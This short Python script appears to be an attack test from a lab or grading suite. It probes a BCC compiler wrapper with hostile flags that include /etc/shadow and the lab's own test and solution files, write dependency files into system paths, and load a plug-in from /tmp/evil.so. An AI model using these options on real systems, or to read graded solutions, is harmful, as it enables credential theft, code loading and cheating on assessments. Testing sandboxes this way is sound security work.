# attack: Hands BCC's compiler options that read secrets, load plug-ins and write files.
# earns: 1.1 1.2 1.3 1.6 1.7 1.8
# scale: 0.2

import os
from pathlib import Path

from bcc import BPF

SECRETS = ("/etc/shadow", "@ROOT@/exercises/lab1/test_lab1.py", "@ROOT@/solutions/lab1/directory_create.py")
PLACES = ("/lab/written", "/sys/kernel/tracing/written", "/usr/lib/written", "/kernel/written")
OPTIONS = [["-include", path] for path in SECRETS] + [["-I/proc/1/root"], ["-I@ROOT@"]]
OPTIONS += [["-MD", "-MF", place] for place in PLACES]
OPTIONS += [["-serialize-diagnostics", place] for place in PLACES]
OPTIONS += [["-fplugin=/tmp/evil.so"], ["-Xclang", "-load", "-Xclang", "/tmp/evil.so"]]
for options in OPTIONS:
    if os.fork() == 0:
        try:
            BPF(text="int nothing(void *ctx) { return 0; }", cflags=options)
        finally:
            os._exit(0)
    os.wait()
for place in PLACES:
    if os.path.exists(place):
        print("LEAK wrote", place, flush=True)
